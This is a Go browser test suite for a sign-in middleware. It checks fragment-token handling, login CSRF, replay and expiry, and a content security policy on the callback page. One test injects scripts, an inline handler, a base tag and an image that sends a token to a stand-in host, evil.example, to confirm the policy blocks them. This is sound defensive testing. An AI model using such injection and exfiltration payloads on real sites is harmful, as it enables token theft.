package migration_test

import (
	"fmt"
	"html"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/emulation"
	"github.com/chromedp/cdproto/log"
	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/cdproto/runtime"
	"github.com/chromedp/chromedp"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/secureflows/secureflows-go"
	"github.com/secureflows/secureflows-go/e2e/internal/chromium"
	"github.com/secureflows/secureflows-go/middleware/vertesia"
	"github.com/secureflows/secureflows-go/secureflowstest/vertesiatest"
)

// vertesiaSite is a small site that people sign in to by Vertesia's page. It is
// on another host than the mock, as far as cookies and browsers are concerned.
type vertesiaSite struct {
	t    *testing.T
	url  string
	mock *vertesiatest.Server
}

func startVertesia(t *testing.T, options ...vertesiatest.Options) *vertesiaSite {
	t.Helper()
	mock := vertesiatest.NewServer(t, options...)
	listener, err := net.Listen("tcp", "localhost:0")
	require.NoError(t, err)
	_, port, err := net.SplitHostPort(listener.Addr().String())
	require.NoError(t, err)
	s := &vertesiaSite{t, "http://localhost:" + port, mock}
	server := &httptest.Server{Listener: listener, Config: &http.Server{Handler: s.routes()}}
	server.Start()
	t.Cleanup(server.Close)
	return s
}

func (s *vertesiaSite) routes() http.Handler {
	s.t.Helper()
	resolver, err := vertesia.New(vertesia.Config{
		Issuer: s.mock.Origin(), Types: []string{"user"}, Accounts: []string{vertesiatest.AccountID},
		CentralAuth: s.mock.CentralAuth(), Now: s.mock.Now,
	})
	require.NoError(s.t, err)
	signIn, err := vertesia.NewSignIn(resolver, vertesia.SignInConfig{
		CallbackURL: s.url + "/auth/callback",
		Done: func(w http.ResponseWriter, _ *http.Request, identity secureflows.Identity, _ secureflows.Token) error {
			// A real site keeps a random id here.
			http.SetCookie(w, &http.Cookie{Name: "site", Value: url.QueryEscape(identity.Email), Path: "/", HttpOnly: true})
			return nil
		},
	})
	require.NoError(s.t, err)
	mux := http.NewServeMux()
	mux.HandleFunc("/auth/callback", signIn.Callback)
	mux.HandleFunc("GET /favicon.ico", func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(http.StatusNoContent) })
	mux.HandleFunc("GET /notes", func(w http.ResponseWriter, r *http.Request) {
		cookie, err := r.Cookie("site")
		if err != nil {
			signIn.Login(w, r, r.URL.RequestURI(), vertesia.Selection{Account: vertesiatest.AccountID})
			return
		}
		email, _ := url.QueryUnescape(cookie.Value)
		fmt.Fprintf(w, "<!doctype html><title>Notes</title><p>Notes of %s", html.EscapeString(email))
	})
	mux.HandleFunc("GET /out", func(w http.ResponseWriter, _ *http.Request) {
		http.SetCookie(w, &http.Cookie{Name: "site", Path: "/", MaxAge: -1})
		_, _ = w.Write([]byte("<!doctype html><title>Out</title><p>Signed out here"))
	})
	return mux
}

// vertesiaTab is one tab of a visitor, and what its browser had to say.
type vertesiaTab struct {
	*chromium.Tab
	site *vertesiaSite
	said *said
}

// said are complaints on the console, and the addresses that were asked for.
type said struct {
	mu         sync.Mutex // guards all below
	complaints []string
	addresses  []string
}

func (s *said) observe(event any) {
	s.mu.Lock()
	defer s.mu.Unlock()
	switch event := event.(type) {
	case *log.EventEntryAdded:
		s.complaints = append(s.complaints, event.Entry.Text)
	case *runtime.EventExceptionThrown:
		s.complaints = append(s.complaints, event.ExceptionDetails.Text)
	case *runtime.EventConsoleAPICalled:
		s.complaints = append(s.complaints, fmt.Sprint(event.Type))
	case *network.EventRequestWillBeSent:
		s.addresses = append(s.addresses, event.Request.URL)
	}
}

func (s *said) all() (complaints, addresses []string) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]string(nil), s.complaints...), append([]string(nil), s.addresses...)
}

func visitVertesia(t *testing.T, site *vertesiaSite) *vertesiaTab {
	t.Helper()
	heard := &said{}
	return &vertesiaTab{chromium.Visit(t, chromedp.WithListener(heard.observe)), site, heard}
}

// at waits for an address of the site.
func (b *vertesiaTab) at(path string) {
	b.T.Helper()
	b.Until("be at "+path, fmt.Sprintf("location.href === %q && document.readyState === 'complete'", b.site.url+path))
}

// central opens a page that needs a sign-in, and gives the address of the central
// page that this leads to.
func (b *vertesiaTab) central(path string) string {
	b.T.Helper()
	b.Open(b.site.url + path)
	b.Until("be at the central page", "document.querySelector('input[name=email]')")
	return b.Text("location.href")
}

// holdsNoToken makes sure that the browser has kept nothing of a token.
func (b *vertesiaTab) holdsNoToken() {
	b.T.Helper()
	places := b.History()
	for _, cookie := range b.Cookies() {
		places = append(places, cookie.Value)
	}
	complaints, addresses := b.said.all()
	places = append(places, complaints...)
	places = append(places, addresses...)
	places = append(places, b.Text("location.href + document.documentElement.outerHTML + document.referrer"))
	for _, place := range places {
		assert.NotContains(b.T, place, "eyJ")
		assert.NotContains(b.T, place, "token=")
	}
}

func TestVertesiaFragmentSignsIn(t *testing.T) {
	for name, options := range map[string]vertesiatest.Options{"whole": {}, "bare": {BareCentral: true}, "RS256": {RS256: true}} {
		t.Run(name, func(t *testing.T) {
			site := startVertesia(t, options)
			site.mock.Token(ada) // a user
			b := visitVertesia(t, site)
			b.central("/notes?find=milk")
			b.Write("input[name=email]", ada)
			b.Press("Continue")
			b.at("/notes?find=milk")
			b.Reads("Notes of " + ada)

			b.holdsNoToken()
			complaints, _ := b.said.all()
			assert.Empty(t, complaints, "on the console")
			for _, cookie := range b.Cookies() {
				assert.NotContains(t, cookie.Name, "vertesia_state", "used up")
			}
			b.Back() // to whatever the history has
			b.holdsNoToken()
		})
	}
}

// A return that is opened again, or in another browser, signs nobody in.
func TestVertesiaReturnsThatWereNotAskedFor(t *testing.T) {
	site := startVertesia(t)
	b := visitVertesia(t, site)
	back := site.mock.SignIn(b.central("/notes"), ada)
	require.Contains(t, back, "#token=eyJ")

	stranger := visitVertesia(t, site)
	stranger.Open(back) // login CSRF: somebody else's sign-in
	stranger.refused()

	b.Open(strings.Replace(back, "&state=", "&state=A", 1))
	b.refused()
	b.Open(site.url + "/out") // a URL that differs in its fragment alone loads nothing
	b.Open(back)
	b.at("/notes")
	b.Reads("Notes of " + ada)

	b.Open(site.url + "/out")
	b.Open(back)
	b.refused()
}

// refused waits for the page that says so, and makes sure that nobody is signed
// in and the token gone.
func (b *vertesiaTab) refused() {
	b.T.Helper()
	b.Reads("Sign-in failed")
	b.Until("the whole page", "document.readyState === 'complete'")
	assert.Equal(b.T, http.StatusBadRequest, b.Status())
	assert.NotContains(b.T, b.Text("location.href"), "token")
	for _, entry := range b.History() {
		assert.NotContains(b.T, entry, "eyJ")
	}
	for _, cookie := range b.Cookies() {
		assert.NotEqual(b.T, "site", cookie.Name, "somebody is signed in")
	}
}

func TestVertesiaSignInTakesFiveMinutes(t *testing.T) {
	site := startVertesia(t)
	b := visitVertesia(t, site)
	back := site.mock.SignIn(b.central("/notes"), ada)
	site.mock.Advance(5 * time.Minute)
	b.Open(back)
	b.refused()
}

// What gets into the bridge page does not run there, and cannot send anything.
func TestVertesiaPolicyHolds(t *testing.T) {
	site := startVertesia(t)
	b := visitVertesia(t, site)
	b.Open(site.url + "/auth/callback")
	b.Reads("There is no sign-in to complete here")
	b.Open(site.url + "/out")
	b.Open(site.url + "/auth/callback#token=eyJ") // without a state
	b.Reads("There is no sign-in to complete here")
	assert.Equal(t, site.url+"/auth/callback", b.Text("location.href"))
	for _, entry := range b.History() {
		assert.NotContains(t, entry, "eyJ")
	}
	complaints, _ := b.said.all()
	assert.Empty(t, complaints, "the page's own script and style are let in")
	require.Equal(t, "512px", b.Text("getComputedStyle(document.querySelector('main')).maxWidth"), "its stylesheet is let in")

	stopped := b.Text(`new Promise(resolve => {
		const stopped = [];
		document.addEventListener('securitypolicyviolation', event => {
			stopped.push(event.effectiveDirective);
			if (stopped.length === 5) resolve(stopped.sort().join(' '));
		});
		const add = (name, set) => document.body.append(Object.assign(document.createElement(name), set));
		add('script', {textContent: 'window.injected = true'});
		add('script', {src: '/injected.js'});
		add('img', {src: 'https://evil.example/?' + 'token'});
		add('base', {href: 'https://evil.example/'});
		fetch('/auth/callback').catch(() => {});
	})`)
	assert.Equal(t, "base-uri connect-src img-src script-src-elem script-src-elem", stopped)
	assert.False(t, b.Holds("Boolean(window.injected)"))
	b.Step("a handler", chromedp.Evaluate[chromedp.Void](
		`document.body.insertAdjacentHTML('beforeend', '<button id="b" onclick="window.injected = true">x</button>'); document.getElementById('b').click()`))
	assert.False(t, b.Holds("Boolean(window.injected)"))
}

func TestVertesiaWithoutJavaScript(t *testing.T) {
	site := startVertesia(t)
	b := visitVertesia(t, site)
	back := site.mock.SignIn(b.central("/notes"), ada)
	_, err := chromedp.Call(b.Context, emulation.SetScriptExecutionDisabled, emulation.SetScriptExecutionDisabledParams{Value: true})
	require.NoError(t, err)
	b.Step("return", chromedp.Navigate(back), chromedp.WaitVisible(`//h1[text()="JavaScript is needed"]`))
	b.shoot("vertesia-noscript.png")
	for _, cookie := range b.Cookies() {
		assert.NotEqual(t, "site", cookie.Name)
	}
}

func TestVertesiaFailurePage(t *testing.T) {
	site := startVertesia(t)
	b := visitVertesia(t, site)
	b.Open(site.url + "/auth/callback#token=x&state=y")
	b.refused()
	b.shoot("vertesia-failure.png")
	b.Open(site.url + "/auth/callback")
	b.Reads("There is no sign-in to complete here")
	b.shoot("vertesia-bridge.png")
}

// shoot takes a picture where they are asked for.
func (b *vertesiaTab) shoot(name string) {
	dir := os.Getenv("SECUREFLOWS_SHOTS")
	if dir == "" {
		return
	}
	picture, err := chromedp.Run(b.Context, chromedp.FullScreenshot(100))
	require.NoError(b.T, err)
	require.NoError(b.T, os.WriteFile(filepath.Join(dir, name), picture, 0o644))
}
